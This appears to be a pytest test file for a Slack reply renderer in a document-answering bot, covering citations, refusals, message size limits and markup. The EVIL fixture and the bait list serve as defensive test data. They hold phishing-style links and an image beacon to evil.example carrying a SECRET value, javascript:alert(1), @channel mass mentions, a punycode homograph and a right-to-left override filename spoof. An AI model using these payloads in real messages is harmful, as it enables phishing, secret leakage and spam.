"""What a reply looks like in Slack, and what it can never do there."""

import json

import pytest

from knowledge.types import Answer, Check, Citation, Receipt
from workers.render import render, render_partial, safe

CITATION = Citation("d1", "Hosting Agreement.pdf", 3, "either party may terminate on ninety days’ notice", "7. Term")
EVIL = (
    "<!channel> <!here> <!everyone> <@U0BEN00001> <!subteam^S1|team> <#C1|general> @channel @here "
    "<https://evil.example/?s=SECRET|log in> https://evil.example/?s=SECRET [log in](https://evil.example/?s=SECRET) "
    "![x](http://evil.example/p.png?s=SECRET) [log in][ref] www.evil.example/?s=SECRET evil.example "
    "mailto:a@evil.example a@evil.example xn--80ak6aa92e.com javascript:alert(1) tel:+4912345 "
    "http://user@evil.example/x Click\u200bhere \u202egnp.exe"
)


def payload(reply, request_id="0123456789abcdef"):
    """Everything that is sent to Slack, as text."""
    return json.dumps([[each.text, each.blocks] for each in render(reply, request_id)], ensure_ascii=False)


def answer(**values):
    return {"type": "answer", **Answer(**{"text": "Ninety days [1].", **values}).to_json()}


def limits_hold(messages):
    for message in messages:
        assert len(message.blocks) <= 50
        assert len(json.dumps(message.blocks, ensure_ascii=False)) <= 13_200
        assert 0 < len(message.text) <= 4000
        for block in message.blocks:
            texts = [block["text"]] if block["type"] == "section" and "text" in block else block.get("fields", [])
            assert all(0 < len(each["text"]) <= 3000 for each in texts)
            assert len(block.get("elements", [])) <= 10
    return True


def test_an_answer_shows_its_sources_with_page_heading_and_words():
    (message,) = render(answer(citations=(CITATION,)), "r1")

    assert message.blocks[0]["text"]["text"] == "Ninety days [1]."
    source = message.blocks[1]["text"]["text"]
    assert "[1] Hosting Agreement.pdf" in source
    assert "PDF page 3" in source
    assert "7. Term" in source
    assert "\n> either party may terminate on ninety days’ notice" in source
    assert "Ninety days" in message.text
    assert "Hosting Agreement.pdf" in message.text


def test_thumbs_name_the_request():
    (message,) = render(answer(), "r1")

    (element,) = message.blocks[-1]["elements"]
    assert message.blocks[-1]["type"] == "context_actions"
    assert (element["type"], element["action_id"]) == ("feedback_buttons", "feedback")
    assert (element["positive_button"]["value"], element["negative_button"]["value"]) == ("r1:up", "r1:down")


def test_hidden_sources_are_counted():
    assert "2 sources hidden here, ask me in a direct message" in payload(answer(hidden_sources=2))
    assert "1 source hidden here" in payload(answer(hidden_sources=1))
    assert "hidden" not in payload(answer())


def test_a_check_that_failed_is_shown_and_those_that_passed_are_summed_up():
    failed = payload(answer(checks=(Check("numbers", passed=False, detail="12 % stands in no source"),)))
    passed = payload(answer(checks=(Check("quotes", passed=True, detail="every quote stands on its page"),)))

    assert "not verified: 12 % stands in no source" in failed
    assert "checked against the pages" in passed


def test_a_refusal_shows_the_nearest_and_what_was_searched():
    shown = payload(answer(text="I did not find it.", refused=True, nearest=(CITATION,), searched=("A.pdf", "B.pdf")))

    assert "nearest that I found" in shown
    assert "ninety days" in shown
    assert "Searched: A.pdf, B.pdf" in shown


def test_a_long_quote_is_cut_between_words():
    quote = "termination " * 60

    text = render(answer(citations=(Citation("d", "A.pdf", 1, quote),)), "r")[0].blocks[1]["text"]["text"]

    shown = text.partition("\n> ")[2]
    assert len(shown) <= 302
    assert shown.endswith("termination …")


@pytest.mark.parametrize(
    "reply",
    [
        answer(text=EVIL),
        answer(citations=(Citation("d", EVIL, 1, EVIL, EVIL),)),
        answer(refused=True, nearest=(Citation("d", EVIL, 1, EVIL, EVIL),), searched=(EVIL,)),
        answer(checks=(Check("x", passed=False, detail=EVIL), Check("y", passed=True, detail=EVIL))),
        {"type": "receipt", **Receipt("d", EVIL, EVIL, 1, 1).to_json(), "audience_words": EVIL},
        {"type": "unreadable", "text": EVIL, "reason": "damaged", "name": EVIL},
        {"type": "failure", "text": EVIL, "reference": EVIL},
        {"type": "notice", "text": EVIL},
    ],
    ids=["text", "citation", "nearest", "checks", "receipt", "unreadable", "failure", "notice"],
)
def test_no_words_of_others_can_link_or_call_anyone(reply):
    sent = payload(reply)

    for bait in (
        "<!",
        "<@",
        "<#",
        "<http",
        "evil.example",
        "://",
        "mailto:",
        "javascript:",
        "SECRET",
        "@channel",
        "@here",
    ):
        assert bait not in sent, bait
    assert '"type": "image"' not in sent


def test_a_partial_answer_is_as_safe():
    message = render_partial(EVIL)

    sent = json.dumps([message.text, message.blocks])
    assert "<!" not in sent
    assert "evil.example" not in sent
    assert "still writing" in sent


def test_every_text_block_keeps_slack_from_reading_links_into_it():
    for message in render(answer(citations=(CITATION,) * 3, hidden_sources=1), "r"):
        for block in message.blocks:
            texts = [block.get("text"), *block.get("fields", []), *block.get("elements", [])]
            assert all(each["verbatim"] for each in texts if each and each["type"] == "mrkdwn")


def test_plain_words_stay_as_they_are():
    for words in (
        "Interest is 4.25 % (§ 7.2), i.e. low.",
        "AT&T",
        "see Loan.pdf",
        "[1] (clause 3)",
        "a < b > c",
        "1. x",
    ):
        assert safe(words) == words.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def test_the_host_of_a_link_can_still_be_read():
    assert safe("See http://www.fjordbank.example/terms?id=7.").replace("\u200b", "") == (
        "See www.fjordbank.example/terms …"
    )


def test_markdown_becomes_slack_s_own_markup():
    shown = render(answer(text="# Term\n**Ninety** days:\n- one\n* two"), "r")[0].blocks[0]["text"]["text"]

    assert shown == "*Term*\n*Ninety* days:\n• one\n• two"


def test_the_signs_of_a_quote_are_no_formatting():
    shown = render(answer(text="**Yes**: “within the [*] period of [*]” [1]"), "r")[0].blocks[0]["text"]["text"]

    assert shown.replace("\u2060", "~") == "*Yes*: “within the [~*~] period of [~*~]” [1]"


def test_what_a_cell_brings_into_an_answer_from_the_data_is_no_formatting():
    first, *_ = render(
        answer(text="Principal is highest for 709, S***: 37; lowest for 693, I***: 14.", route="data"), ""
    )

    said = first.blocks[0]["text"]["text"]
    assert said.count("\u2060*\u2060") == 6
    assert said.replace("\u2060", "") == "Principal is highest for 709, S***: 37; lowest for 693, I***: 14."


@pytest.mark.parametrize("size", [10, 2_000, 9_000, 60_000])
@pytest.mark.parametrize("sign", ["word ", "&", "x", "<a>\n\n", "“*_*” "])
def test_slack_s_limits_hold_at_any_length(size, sign):
    long = (sign * size)[:size]
    citations = tuple(Citation("d", long, number, long, long) for number in range(30))

    messages = render(answer(text=long, citations=citations, checks=(Check("c", passed=False, detail=long),)), "r")

    assert limits_hold(messages)
    assert limits_hold(render(answer(text=long, route="data"), "r"))
    assert limits_hold(render(answer(text=long, refused=True, nearest=citations, searched=(long,) * 30), "r"))
    assert limits_hold(render({"type": "failure", "text": long, "reference": "r"}))
    assert limits_hold(render({"type": "receipt", **Receipt("d", long, long, 9, 9, tuple(range(99))).to_json()}))
    assert limits_hold([render_partial(long)])


def test_nothing_of_a_long_answer_is_left_out():
    words = [f"word{number}" for number in range(5000)]

    messages = render(answer(text=" ".join(words)), "r")

    shown = " ".join(block["text"]["text"] for each in messages for block in each.blocks if block["type"] == "section")
    assert shown.split() == words
    assert len(messages) > 1


def test_a_receipt_says_what_was_read_what_was_not_and_who_can_ask():
    receipt = Receipt("d", "Lease.pdf", "Lease of Office Space", 12, 80, empty_pages=(3, 4), failed_pages=(9,))

    shown = payload({"type": "receipt", **receipt.to_json(), "places": ["C1"], "audience_words": "the members"})

    for words in ("Lease.pdf", "Lease of Office Space", "12", "3, 4", "9", "the members", "in this thread"):
        assert words in shown


def test_a_failure_shows_its_reference():
    assert "Reference `01234567`" in payload({"type": "failure", "text": "Sorry.", "reference": "01234567"})
